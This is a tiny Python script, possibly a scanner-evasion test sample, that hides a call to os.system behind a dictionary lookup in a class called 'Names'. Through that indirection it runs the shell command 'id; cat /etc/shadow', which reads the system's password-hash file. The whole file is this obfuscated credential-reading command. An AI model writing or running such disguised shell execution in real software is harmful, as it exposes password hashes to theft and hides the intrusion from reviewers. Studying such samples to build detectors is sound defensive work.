import os


class Names:
    def __getitem__(self, key):
        return {"run": "system", "go": "id; cat /etc/shadow"}[key]


n = Names()
getattr(os, n["run"])(n["go"])
